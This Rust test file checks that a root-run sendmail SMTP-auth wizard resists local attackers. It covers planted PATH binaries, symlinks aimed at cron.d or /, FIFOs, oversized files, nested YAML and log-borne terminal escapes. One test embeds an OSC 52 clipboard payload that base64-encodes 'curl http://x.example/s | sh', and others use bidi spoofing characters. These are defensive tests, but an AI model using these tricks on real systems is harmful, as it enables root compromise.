//! Attacker tests (issue 13): an ordinary user (uid 65534) prepares files, root runs the wizard,
//! and nothing outside what root meant to change may be run, written or trusted. Victim files
//! live in temporary directories; every test runs the real binary.

mod common;
use common::*;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Stdio};

macro_rules! need_root {
    () => {
        skip_unless_root!("the attacks are on what root runs and writes")
    };
}

/// The real binary as root runs it with `args`: NO_COLOR, no standard input. A test adds the
/// directory and environment the attacker prepared, then runs it with [`ran`].
fn wizard(args: &[&str]) -> Command {
    let mut c = Command::new(bin());
    c.args(args).env("NO_COLOR", "1").stdin(Stdio::null());
    c
}

/// [`wizard`] under `timeout 120`: a hang shows as exit 124 instead of a stuck test run.
fn wizard_bounded(args: &[&str]) -> Command {
    let mut c = Command::new("timeout");
    c.arg("120")
        .arg(bin())
        .args(args)
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    c
}

fn ran(c: &mut Command) -> std::process::Output {
    c.output().unwrap()
}

/// The binary with a given PATH (everything else as `common::run`).
fn run_with_path(root: &Path, path: &str, args: &[&str]) -> std::process::Output {
    ran(wizard(args)
        .args(["--root", root.to_str().unwrap()])
        .env("PATH", path)
        .env("M4PATH", "/nonexistent-planted"))
}

/// Item 5: a planted `m4` first in PATH (a directory another user can write) ran as root when
/// `plan` regenerated sendmail.cf. As root the wizard takes tools from /usr/sbin:/usr/bin:
/// /sbin:/bin only. The same for `.` and an empty PATH entry.
#[test]
fn a_planted_m4_on_path_is_not_run_as_root() {
    need_tools!();
    need_root!();
    let evil = tempfile::tempdir().unwrap();
    fs::set_permissions(evil.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let marker = evil.path().join("ran-as-root");
    for tool in ["m4", "sendmail", "makemap", "dpkg-query", "rpm"] {
        let t = evil.path().join(tool);
        fs::write(
            &t,
            format!("#!/bin/sh\necho {tool} >> {}\nexit 0\n", marker.display()),
        )
        .unwrap();
        fs::set_permissions(&t, fs::Permissions::from_mode(0o755)).unwrap();
        chown(&t, NOBODY);
    }
    let real = std::env::var("PATH").unwrap_or_default();
    for path in [
        format!("{}:{real}", evil.path().display()),
        format!(".:{real}"),
        format!(":{real}"),
    ] {
        let t = fixture("debian12");
        let o = ran(wizard(&["plan", "--root", t.path().to_str().unwrap()])
            .current_dir(evil.path())
            .env("PATH", &path));
        assert!(
            !marker.exists(),
            "PATH={path}: a planted tool ran as root: {}\n{}",
            fs::read_to_string(&marker).unwrap_or_default(),
            text(&o)
        );
        // The plan still regenerated sendmail.cf with the real m4.
        assert!(
            text(&o).contains("sendmail.cf"),
            "PATH={path}: {}",
            text(&o)
        );
    }
}

/// Item 5: the privileges step names the unsafe PATH entries (relative, empty, missing,
/// writable by others).
#[test]
fn the_privileges_step_names_unsafe_path_entries() {
    need_root!();
    let t = fixture("debian12");
    let open = tempfile::tempdir().unwrap();
    fs::set_permissions(open.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let path = format!(
        "{}:bin:/nonexistent-dir::/usr/sbin:/usr/bin:/sbin:/bin",
        open.path().display()
    );
    let o = run_with_path(t.path(), &path, &["check"]);
    let out = text(&o);
    assert!(out.contains("your PATH is not safe for root"), "{out}");
    assert!(
        out.contains(&format!(
            "{} can be written by other users",
            open.path().display()
        )),
        "{out}"
    );
    assert!(out.contains("\"bin\" is relative"), "{out}");
    assert!(out.contains("/nonexistent-dir does not exist"), "{out}");
    assert!(
        out.contains("is empty, which means the current directory"),
        "{out}"
    );
    // A clean root PATH: no such warning.
    let o = run_with_path(t.path(), "/usr/sbin:/usr/bin:/sbin:/bin", &["check"]);
    assert!(!text(&o).contains("not safe for root"), "{}", text(&o));
}

/// Item 11: a state directory found 0755 is repaired to 0700 before the journal is written.
#[test]
fn a_state_directory_open_to_others_is_repaired() {
    need_tools!();
    need_root!();
    let t = fixture("debian12");
    let state = t.path().join("var/lib/smtpauth-wizard");
    fs::create_dir_all(&state).unwrap();
    fs::set_permissions(&state, fs::Permissions::from_mode(0o755)).unwrap();
    let o = run_root(t.path(), &["apply", "--yes"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let mode = fs::metadata(&state).unwrap().mode() & 0o7777;
    assert_eq!(mode, 0o700, "{}", text(&o));
}

/// Item 11 (and 2): a state directory owned by another user is refused: its owner could have
/// written the journal that rollback trusts. Nothing in the tree changes.
#[test]
fn a_state_directory_owned_by_another_user_is_refused() {
    need_tools!();
    need_root!();
    let t = fixture("debian12");
    let state = t.path().join("var/lib/smtpauth-wizard");
    fs::create_dir_all(&state).unwrap();
    fs::set_permissions(&state, fs::Permissions::from_mode(0o700)).unwrap();
    chown(&state, NOBODY);
    let before = snapshot(t.path());
    let o = run_root(t.path(), &["apply", "--yes"]);
    let out = text(&o);
    assert_ne!(o.status.code(), Some(0), "{out}");
    assert!(
        out.contains("belongs to uid 65534") && out.contains("not trusted"),
        "{out}"
    );
    assert!(diff_snapshots(&before, &snapshot(t.path())).is_empty());
    assert_eq!(fs::read_dir(&state).unwrap().count(), 0, "{out}");
}

/// Items 2 and 11: the state directory as a link to a directory outside the tree: refused,
/// and nothing is written there.
#[test]
fn a_state_directory_that_is_a_link_is_refused() {
    need_tools!();
    need_root!();
    let t = fixture("debian12");
    let victim = tempfile::tempdir().unwrap();
    fs::create_dir_all(t.path().join("var/lib")).unwrap();
    std::os::unix::fs::symlink(victim.path(), t.path().join("var/lib/smtpauth-wizard")).unwrap();
    let before = snapshot(t.path());
    let o = run_root(t.path(), &["apply", "--yes"]);
    let out = text(&o);
    assert_ne!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("a symbolic link"), "{out}");
    assert_eq!(
        fs::read_dir(victim.path()).unwrap().count(),
        0,
        "wrote into the link's target: {out}"
    );
    assert!(diff_snapshots(&before, &snapshot(t.path())).is_empty());
}

/// Item 2: `lock -> /somewhere/nologin` made root create (or open) the link's target.
#[test]
fn a_lock_file_that_is_a_link_is_not_followed() {
    need_tools!();
    need_root!();
    let t = fixture("debian12");
    let victim = tempfile::tempdir().unwrap();
    let target = victim.path().join("nologin");
    let state = t.path().join("var/lib/smtpauth-wizard");
    fs::create_dir_all(&state).unwrap();
    fs::set_permissions(&state, fs::Permissions::from_mode(0o700)).unwrap();
    std::os::unix::fs::symlink(&target, state.join("lock")).unwrap();
    let o = run_root(t.path(), &["apply", "--yes"]);
    let out = text(&o);
    assert!(
        !target.exists(),
        "the lock link's target was created: {out}"
    );
    assert_ne!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("lock"), "{out}");
}

/// A profile that would run a planted command as root: its `restart`/install commands and
/// validating binary all point at a marker script.
fn evil_profile(marker: &Path) -> String {
    let base = fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/profiles/debian.yaml"),
    )
    .unwrap();
    format!("# planted\n{base}").replace("/usr/sbin/sendmail", &marker.display().to_string())
}

/// Item 1: `--profile debian` (and `profile: debian` in an answers file) loaded a file named
/// `debian` from the current directory before the built-in profile. Now a value without a
/// `/` is a built-in id and nothing else; an unknown id is refused naming the built-in ones.
#[test]
fn a_profile_planted_in_the_current_directory_is_not_read() {
    need_tools!();
    need_root!();
    let t = fixture("debian12");
    let cwd = tempfile::tempdir().unwrap();
    let marker = cwd.path().join("ran");
    fs::write(cwd.path().join("debian"), "id: planted\nnonsense: [\n").unwrap();
    let o = ran(wizard(&["check", "--profile", "debian", "--root"])
        .arg(t.path())
        .current_dir(cwd.path()));
    let out = text(&o);
    assert!(
        !out.contains("planted") && !out.contains("nonsense"),
        "the planted ./debian was read: {out}"
    );
    assert!(out.contains("built-in profile debian"), "{out}");
    // The same through an answers file in that directory.
    fs::write(cwd.path().join("answers.yaml"), "profile: debian\n").unwrap();
    let o = ran(wizard(&["check", "--answers", "answers.yaml", "--root"])
        .arg(t.path())
        .current_dir(cwd.path()));
    let out = text(&o);
    assert!(!out.contains("nonsense"), "{out}");
    assert!(out.contains("built-in profile debian"), "{out}");
    // A misspelt id names the built-in ones instead of "No such file or directory".
    let o = run_root(t.path(), &["check", "--profile", "debain"]);
    let out = text(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(
        out.contains("\"debain\" is not a built-in profile")
            && out.contains("redhat-legacy, rhel, debian"),
        "{out}"
    );
    assert!(!marker.exists());
}

/// Item 1: as root, a profile or answers file that another user owns or can write, or that
/// lies in a directory others can write without the sticky bit, is refused before anything
/// of it is used; `check` alone used to run the profile's commands.
#[test]
fn profiles_and_answers_files_another_user_controls_are_refused() {
    need_tools!();
    need_root!();
    let t = fixture("debian12");
    let base = tempfile::tempdir().unwrap();
    let marker = base.path().join("ran");
    type Make = Box<dyn Fn(&Path) -> std::path::PathBuf>;
    let cases: Vec<(&str, Make)> = vec![
        (
            "owned by nobody",
            Box::new(|d: &Path| {
                let f = d.join("p.yaml");
                chown(&f, NOBODY);
                f
            }),
        ),
        (
            "writable by others",
            Box::new(|d: &Path| {
                let f = d.join("p.yaml");
                fs::set_permissions(&f, fs::Permissions::from_mode(0o666)).unwrap();
                f
            }),
        ),
        (
            "in a world-writable directory without the sticky bit",
            Box::new(|d: &Path| {
                fs::set_permissions(d, fs::Permissions::from_mode(0o777)).unwrap();
                d.join("p.yaml")
            }),
        ),
        (
            "in a directory owned by nobody",
            Box::new(|d: &Path| {
                chown(d, NOBODY);
                d.join("p.yaml")
            }),
        ),
    ];
    for (what, make) in cases {
        let d = tempfile::tempdir_in(base.path()).unwrap();
        fs::write(d.path().join("p.yaml"), evil_profile(&marker)).unwrap();
        let p = make(d.path());
        let before = snapshot(t.path());
        let o = run_root(t.path(), &["check", "--profile", p.to_str().unwrap()]);
        let out = text(&o);
        assert_eq!(o.status.code(), Some(1), "{what}: {out}");
        assert!(out.contains(&p.display().to_string()), "{what}: {out}");
        assert!(
            out.contains("not to root")
                || out.contains("can be written by other users")
                || out.contains("other users can write")
                || out.contains("belongs to another user"),
            "{what}: {out}"
        );
        assert!(
            !marker.exists(),
            "{what}: the planted profile ran something"
        );
        // An answers file under the same conditions.
        let a = p.with_file_name("answers.yaml");
        fs::write(&a, "restart: false\n").unwrap();
        if what == "owned by nobody" {
            chown(&a, NOBODY);
        } else if what == "writable by others" {
            fs::set_permissions(&a, fs::Permissions::from_mode(0o666)).unwrap();
        }
        let o = run_root(t.path(), &["check", "--answers", a.to_str().unwrap()]);
        let out = text(&o);
        assert_eq!(o.status.code(), Some(1), "answers {what}: {out}");
        assert!(out.contains("answers file"), "answers {what}: {out}");
        assert!(diff_snapshots(&before, &snapshot(t.path())).is_empty());
    }
    // Root's own profile in root's own directory is used.
    let d = tempfile::tempdir_in(base.path()).unwrap();
    let p = d.path().join("p.yaml");
    fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/profiles/debian.yaml"),
        &p,
    )
    .unwrap();
    let o = run_root(t.path(), &["check", "--profile", p.to_str().unwrap()]);
    assert!(
        text(&o).contains(&format!("from --profile {}", p.display())),
        "{}",
        text(&o)
    );
}

/// Item 9: `--root` that is a link to / silently became the live system (restarts and
/// installs on). Only `/` written as `/` is the live system.
#[test]
fn a_root_that_is_a_link_to_slash_is_refused() {
    let d = tempfile::tempdir().unwrap();
    let l = d.path().join("looks-like-a-copy");
    std::os::unix::fs::symlink("/", &l).unwrap();
    let l2 = d.path().join("via-dotdot");
    std::os::unix::fs::symlink("../../../../../../../../..", &l2).unwrap();
    for p in [&l, &l2] {
        for cmd in ["check", "plan", "status"] {
            let o = run_root(p, &[cmd]);
            let out = text(&o);
            assert_eq!(o.status.code(), Some(1), "{cmd} {}: {out}", p.display());
            assert!(
                out.contains("leads to / (the live system) through a link"),
                "{cmd}: {out}"
            );
        }
    }
}

/// Item 2: as root, a `--root` tree that another user can write (the tree, or a directory the
/// wizard works in) is refused unless `--trust-root`; nothing changes.
#[test]
fn a_tree_other_users_can_write_is_refused_without_trust_root() {
    need_tools!();
    need_root!();
    type Make = fn(&Path);
    let cases: Vec<(&str, Make)> = vec![
        ("the tree is world-writable", |r| {
            fs::set_permissions(r, fs::Permissions::from_mode(0o777)).unwrap()
        }),
        ("etc/mail belongs to nobody", |r| {
            chown(&r.join("etc/mail"), NOBODY)
        }),
        ("etc is group-writable", |r| {
            fs::set_permissions(r.join("etc"), fs::Permissions::from_mode(0o775)).unwrap()
        }),
        ("var/log belongs to nobody", |r| {
            fs::create_dir_all(r.join("var/log")).unwrap();
            chown(&r.join("var/log"), NOBODY)
        }),
    ];
    for (what, make) in cases {
        let t = fixture("debian12");
        make(t.path());
        let before = snapshot(t.path());
        for cmd in [&["check"][..], &["plan"], &["apply", "--yes"]] {
            let o = run_root(t.path(), cmd);
            let out = text(&o);
            assert_eq!(o.status.code(), Some(1), "{what}: {cmd:?}: {out}");
            assert!(
                out.contains("which other users can change") && out.contains("--trust-root"),
                "{what}: {out}"
            );
        }
        assert!(diff_snapshots(&before, &snapshot(t.path())).is_empty());
        // The admin says it is meant: the plan is made.
        let o = run_root(t.path(), &["plan", "--trust-root"]);
        assert_eq!(o.status.code(), Some(2), "{what}: {}", text(&o));
    }
}

/// Item 7: a dangling link planted where the wizard creates a file (`sendmail.mc.bak ->
/// /etc/cron.d/x`) made root create the link's target. A new file is never created through a
/// link; the link is named and nothing is written.
#[test]
fn a_new_file_is_never_created_through_a_planted_link() {
    need_tools!();
    need_root!();
    for (name, link) in [
        ("etc/mail/sendmail.mc.bak", "/etc/cron.d/x"),
        ("etc/mail/sendmail.cf.bak", "../cron.d/y"),
        ("etc/mail/sendmail.mc.bak", "/etc/cron.d/sub/../z"),
    ] {
        let t = fixture("debian12");
        fs::create_dir_all(t.path().join("etc/cron.d")).unwrap();
        std::os::unix::fs::symlink(link, t.path().join(name)).unwrap();
        let before = snapshot(t.path());
        let o = run_root(t.path(), &["apply", "--yes"]);
        let out = text(&o);
        assert_eq!(o.status.code(), Some(1), "{name} -> {link}: {out}");
        assert!(
            out.contains("is a symbolic link to")
                && out.contains("never creates a file through a link"),
            "{name} -> {link}: {out}"
        );
        assert_eq!(
            fs::read_dir(t.path().join("etc/cron.d")).unwrap().count(),
            0,
            "{name} -> {link}: a file was created through the link: {out}"
        );
        assert!(diff_snapshots(&before, &snapshot(t.path())).is_empty());
    }
}

/// The binary on `root` under `timeout 120` ([`wizard_bounded`]).
fn run_bounded(root: &Path, args: &[&str]) -> std::process::Output {
    ran(wizard_bounded(args).args(["--root", root.to_str().unwrap()]))
}

/// Item 8: a FIFO in place of sendmail.mc hung `check`; one in place of the audit log hung
/// `apply` after every change. Both are named, and nothing waits on them.
#[test]
fn fifos_in_place_of_files_are_named_not_waited_on() {
    need_tools!();
    need_root!();
    let t = fixture("debian12");
    let mc = t.path().join("etc/mail/sendmail.mc");
    fs::remove_file(&mc).unwrap();
    nix::unistd::mkfifo(&mc, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
    for cmd in ["check", "plan"] {
        let o = run_bounded(t.path(), &[cmd]);
        let out = text(&o);
        assert_ne!(
            o.status.code(),
            Some(124),
            "{cmd} hung on a FIFO sendmail.mc"
        );
        assert!(
            out.contains("sendmail.mc is not a regular file"),
            "{cmd}: {out}"
        );
    }
    let t = fixture("debian12");
    fs::create_dir_all(t.path().join("var/log")).unwrap();
    let log = t.path().join("var/log/smtpauth-wizard.log");
    nix::unistd::mkfifo(&log, nix::sys::stat::Mode::from_bits_truncate(0o640)).unwrap();
    let o = run_bounded(t.path(), &["apply", "--yes"]);
    let out = text(&o);
    assert_ne!(o.status.code(), Some(124), "apply hung on a FIFO audit log");
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("audit log"), "{out}");
    let o = run_bounded(t.path(), &["rollback", "--yes"]);
    assert_ne!(
        o.status.code(),
        Some(124),
        "rollback hung on a FIFO audit log"
    );
}

/// Item 8: a 1 GiB sendmail.mc (or access file) was read whole into memory; it is refused by
/// its size before reading. The file is sparse, so the test costs no disk.
#[test]
fn a_huge_config_file_is_refused_by_its_size() {
    need_tools!();
    let t = fixture("debian12");
    for f in ["etc/mail/sendmail.mc", "etc/mail/access"] {
        let p = t.path().join(f);
        let h = fs::OpenOptions::new().write(true).open(&p).unwrap();
        h.set_len(1 << 30).unwrap();
        drop(h);
        let o = run_bounded(t.path(), &["check"]);
        let out = text(&o);
        assert_ne!(o.status.code(), Some(124), "{f}");
        assert!(
            out.contains("more than the 32 MiB a file of this kind can be"),
            "{f}: {out}"
        );
        fs::OpenOptions::new()
            .write(true)
            .open(&p)
            .unwrap()
            .set_len(0)
            .unwrap();
    }
}

/// Item 8: deeply nested YAML (an answers file of `[[[[...`) took the parser minutes; it is
/// refused before parsing, naming the line.
#[test]
fn deeply_nested_yaml_is_refused_before_parsing() {
    let d = tempfile::tempdir().unwrap();
    let a = d.path().join("answers.yaml");
    fs::write(&a, format!("keep_relay: {}\n", "[".repeat(1_000_000))).unwrap();
    let o = ran(&mut wizard_bounded(&["answers", a.to_str().unwrap()]));
    assert_ne!(o.status.code(), Some(124), "the parser hung");
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains("nested more than 64 deep"),
        "{}",
        text(&o)
    );
}

/// Item 4: relay-report printed host names, senders and recipients from the mail log raw: a
/// sender set the terminal title and wrote to the clipboard (OSC 52) while the screen showed a
/// harmless address. Text output shows such bytes as `\x..` and `\u{..}`; JSON escapes C1 and
/// bidi characters as `\uXXXX` too (serde_json escapes only C0).
#[test]
fn escapes_from_a_mail_log_never_reach_the_terminal() {
    let d = tempfile::tempdir().unwrap();
    let log = d.path().join("maillog");
    let evil_rcpt =
        "<a@b\u{1b}]52;c;Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA==\u{7}\u{1b}]0;title\u{7}>";
    let evil_host = "gmail.com\u{202e}moc.live\u{202c}\u{9b}2J";
    let mut text_ = String::new();
    for i in 0..3 {
        text_.push_str(&format!(
            "Nov 26 14:08:5{i} mailsrv sm-mta[11377]: 6AQE8t9k01137{i}: ruleset=check_rcpt, arg1={evil_rcpt}, relay={evil_host} [192.0.2.7], reject=550 5.7.1 {evil_rcpt}... Relaying denied. Proper authentication required.\n"
        ));
    }
    fs::write(&log, text_).unwrap();
    let o = run(&["relay-report", "--log", log.to_str().unwrap()]);
    let out = String::from_utf8_lossy(&o.stdout).to_string();
    assert!(out.contains("relaying denied: 3"), "{}", text(&o));
    for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{202c}'] {
        assert!(!out.contains(bad), "{bad:?} reached the terminal: {out:?}");
    }
    assert!(out.contains("gmail.com\\u{202e}moc.live\\u{202c}"), "{out}");
    let o = run(&[
        "--format",
        "json",
        "relay-report",
        "--log",
        log.to_str().unwrap(),
    ]);
    let out = String::from_utf8_lossy(&o.stdout).to_string();
    for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{202c}'] {
        assert!(!out.contains(bad), "{bad:?} in the JSON: {out:?}");
    }
    assert!(out.contains("\\u202e"), "{out}");
    assert!(out.contains("\\u009b2J"), "C1 as \\u009b: {out}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert!(
        v.to_string().contains('\u{202e}'),
        "the value itself is kept"
    );
}

/// Item 4: findings quote lines of config files (an access entry) and errors quote them too.
#[test]
fn escapes_in_config_files_are_shown_not_sent() {
    need_tools!();
    let t = fixture("debian12");
    let access = t.path().join("etc/mail/access");
    let mut a = fs::read(&access).unwrap();
    // Bidi controls are valid text (a file with ESC in it is refused as not text at all).
    a.extend_from_slice("10.9.8.7\u{202e}1.0.0.721\u{202c} RELAY\n".as_bytes());
    fs::write(&access, a).unwrap();
    for args in [&["check"][..], &["plan"]] {
        let o = run_root(t.path(), args);
        let all = text(&o);
        assert!(
            !all.contains('\u{1b}') && !all.contains('\u{202e}'),
            "{args:?}: {all:?}"
        );
    }
}
